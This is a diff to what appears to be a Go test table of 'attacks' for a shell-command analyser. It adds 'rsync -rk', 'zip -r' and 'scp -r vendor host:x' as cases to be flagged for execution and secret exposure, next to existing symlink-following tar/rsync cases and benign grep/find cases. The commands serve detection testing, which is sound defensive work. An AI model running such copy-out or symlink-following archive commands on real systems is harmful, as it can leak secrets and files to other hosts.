@@ -183,6 +183,9 @@ var attacks = []struct {
 	{script: "tar chf /tmp/x.tar vendor", has: Of(Exec, Secret)},
 	{script: "rsync -aL vendor /tmp/out", has: Of(Exec, Secret)},
 	{script: "rsync --copy-links -a vendor /tmp/out", has: Of(Exec, Secret)},
+	{script: "rsync -rk vendor /tmp/out", has: Of(Exec, Secret)},
+	{script: "zip -r /tmp/x.zip vendor", has: Of(Exec, Secret)},
+	{script: "scp -r vendor host:x", has: Of(Exec, Secret)},
 	{script: "grep -R x tree", runs: true}, // a loop ends the walk
 	{script: "grep -r PRIVATE vendor; rg PRIVATE vendor; find vendor; ls -R vendor; du vendor", runs: true},
 	{script: "grep -R x src; rg -L x src; find -L src; ls -LR src; du -L src; cp -rL src out", runs: true},
